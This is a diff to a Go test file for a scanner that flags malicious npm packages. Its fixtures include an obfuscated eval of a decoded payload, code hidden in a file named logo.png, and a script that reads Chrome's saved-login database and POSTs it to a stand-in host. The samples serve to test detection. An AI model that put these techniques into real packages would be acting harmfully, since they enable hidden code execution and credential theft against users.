@@ -221,6 +221,10 @@ func TestNPMMalicious(t *testing.T) {
 			"index.js":     "const p = atob(require('./cfg').k);\n" + strings.Repeat("// padding to move the eval away from the decode\n", 20) + "setTimeout(() => eval(p), 1000);\n",
 			"cfg.js":       "module.exports = {k: 'eA=='};\n",
 		}, want: []want{{RuleEvalDecode, Medium, "index.js:1:"}}},
+		{name: "main named like an image", eco: "npm", files: map[string]string{
+			"package.json":    `{"name":"x","main":"assets/logo.png"}`,
+			"assets/logo.png": "eval(atob('eA=='));\n",
+		}, want: []want{{RuleEvalDecode, High, "assets/logo.png:1:"}}},
 		{name: "wallet and browser data in a bin", eco: "npm", files: map[string]string{
 			"package.json": `{"name":"x","bin":{"x":"cli.js"}}`,
 			"cli.js":       "const p = home + '/Library/Application Support/Google/Chrome/Default/Login Data';\nrequire('https').request('https://c.example', {method:'POST'}).end(read(p));\n",
